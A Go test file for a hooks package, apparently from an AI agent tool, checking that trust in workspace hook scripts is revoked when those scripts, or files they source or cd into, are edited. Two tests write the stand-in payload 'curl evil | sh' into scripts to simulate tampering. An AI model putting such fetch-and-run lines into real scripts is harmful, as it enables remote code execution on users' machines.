package hooks

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// TestTrustCoversWhatATrustedHookSourcesOrCdsInto is the regression test
// for a trusted hook running changed code: trust covered only the words
// that named workspace files, never what those scripts source or the
// folder a `cd` moved to.
func TestTrustCoversWhatATrustedHookSourcesOrCdsInto(t *testing.T) {
	for _, c := range []struct {
		name, command, changed string
	}{
		{"sourced beside it in .tally", "bash .tally/h.sh", ".tally/lib.sh"},
		{"run after cd into .tally", "cd .tally && sh ./h.sh", ".tally/h.sh"},
		{"run after cd elsewhere", "cd tools && sh ./run.sh", "tools/run.sh"},
		{"sourced beside it in a folder", "bash scripts/h.sh", "scripts/lib.sh"},
		{"sourced by a script at the root", "./hook.sh", "lib.sh"},
		{"named through the project variable", `sh "$TALLY_PROJECT_DIR/scripts/h.sh"`, "scripts/lib.sh"},
	} {
		t.Run(c.name, func(t *testing.T) {
			ws := t.TempDir()
			for name, body := range map[string]string{
				".tally/h.sh": "#!/bin/sh\n. .tally/lib.sh\n", ".tally/lib.sh": "echo ok\n",
				"tools/run.sh": "echo ok\n", "scripts/h.sh": "#!/bin/sh\n. scripts/lib.sh\n", "scripts/lib.sh": "echo ok\n",
				"hook.sh": "#!/bin/sh\n. ./lib.sh\n", "lib.sh": "echo ok\n", "README.md": "hello\n",
			} {
				p := filepath.Join(ws, name)
				os.MkdirAll(filepath.Dir(p), 0o755)
				if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			data := []byte(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x"}]}]}}`)
			hooks := []Hook{{Event: "Stop", Command: c.command}}
			base, err := TrustHash(ws, data, hooks)
			if err != nil {
				t.Fatal(err)
			}
			os.WriteFile(filepath.Join(ws, "README.md"), []byte("changed\n"), 0o644)
			if h, _ := TrustHash(ws, data, hooks); h != base {
				t.Errorf("a file the hook never reads changed the trust")
			}
			os.WriteFile(filepath.Join(ws, c.changed), []byte("curl evil | sh\n"), 0o755)
			if h, err := TrustHash(ws, data, hooks); err != nil || h == base {
				t.Errorf("editing %s kept the trust of %q (%v)", c.changed, c.command, err)
			}
		})
	}
}

// TestAQuotedPathWithASpaceAsksForTrustAgainAfterAnEdit is the regression
// test for commands split on spaces by hand: a hook that runs
// "tools/my hook.sh" kept its trust after the script was edited.
func TestAQuotedPathWithASpaceAsksForTrustAgainAfterAnEdit(t *testing.T) {
	for _, command := range []string{`bash "tools/my hook.sh"`, `sh tools/my\ hook.sh`, `'./tools/my hook.sh' --fast`} {
		ws := t.TempDir()
		os.MkdirAll(filepath.Join(ws, ".tally"), 0o755)
		os.MkdirAll(filepath.Join(ws, "tools"), 0o755)
		script := filepath.Join(ws, "tools", "my hook.sh")
		os.WriteFile(script, []byte("#!/bin/sh\nexit 0\n"), 0o755)
		cfg, _ := json.Marshal(map[string]any{"hooks": map[string]any{"Stop": []any{map[string]any{"hooks": []any{map[string]any{"type": "command", "command": command}}}}}})
		os.WriteFile(WorkspacePath(ws), cfg, 0o644)
		_, wf, _, err := LoadWorkspace(ws, nil)
		if err != nil || !wf.NeedsTrust {
			t.Fatalf("%s: %+v, %v", command, wf, err)
		}
		trusted := wf.Hash
		isTrusted := func(h string) bool { return h == trusted }
		if hooks, wf, _, err := LoadWorkspace(ws, isTrusted); err != nil || wf.NeedsTrust || len(hooks) != 1 {
			t.Fatalf("%s: trusted file not loaded: %+v, %v", command, wf, err)
		}
		os.WriteFile(script, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
		if hooks, wf, _, err := LoadWorkspace(ws, isTrusted); err != nil || !wf.NeedsTrust || len(hooks) != 0 {
			t.Errorf("%s: the edited script kept its trust: %d hooks, %+v, %v", command, len(hooks), wf, err)
		}
	}
}

// FuzzParse feeds hooks files to the parser: it never panics, and every
// hook it returns has an event it knows and a command to run.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "touch ran"}]}]}}`,
		`{"hooks": {"PreToolUse": [{"matcher": "run_shell|edit_.*", "hooks": [{"type": "command", "command": "x", "timeout": 5}]}]}}`,
		`{"hooks": {"Nope": []}}`, `{"hooks": 1}`, `[]`, `{`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		hooks, _, err := Parse(data, SourceWorkspace, "hooks.json")
		if err != nil {
			return
		}
		for _, h := range hooks {
			if h.Command == "" || h.Event == "" {
				t.Fatalf("hook %+v from %q", h, data)
			}
		}
	})
}
